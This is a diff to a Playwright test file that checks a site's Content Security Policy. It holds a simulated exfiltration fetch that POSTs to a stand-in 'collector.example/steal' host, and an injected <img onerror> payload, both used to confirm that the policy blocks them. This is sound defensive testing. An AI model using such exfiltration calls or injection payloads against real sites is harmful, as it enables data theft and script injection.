@@ -76,11 +76,10 @@ test(
     await page.goto('/about');
     const refused = await page.evaluate(
       () =>
-        new Promise<string | null>((resolve) => {
+        new Promise<string>((resolve) => {
           document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
-          // what an injected script would do with what it read
+          // what an injected script would do with what it read (were it sent, the fixture fails the test)
           void fetch('https://collector.example/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
-          setTimeout(() => resolve(null), 2_000);
         }),
     );
     expect(refused).toBe('connect-src');
@@ -105,16 +104,17 @@ test(
   { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } },
   async ({ page }) => {
     await page.goto('/about');
-    const blocked = await page.evaluate(
-      () =>
-        new Promise<boolean>((resolve) => {
-          document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
-          // parser-inserted markup, as an injection would be: not trusted through 'strict-dynamic'
-          document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__injected = true">');
-          setTimeout(() => resolve(false), 1_000);
-        }),
-    );
-    expect(blocked).toBe(true);
-    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
+    const outcome = await page.evaluate(async () => {
+      const violation = new Promise<string>((resolve) =>
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true }),
+      );
+      // parser-inserted markup, as an injection would be: not trusted through 'strict-dynamic'
+      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__injected = true">');
+      // the image fails: its handler has run, or been refused, by the time its error event gets here
+      await new Promise((resolve) => document.body.lastElementChild!.addEventListener('error', resolve, { once: true }));
+      const ran = (window as unknown as { __injected?: boolean }).__injected === true;
+      return { ran, refusedBy: ran ? null : await violation };
+    });
+    expect(outcome).toEqual({ ran: false, refusedBy: expect.stringMatching(/^script-src/) });
   },
 );
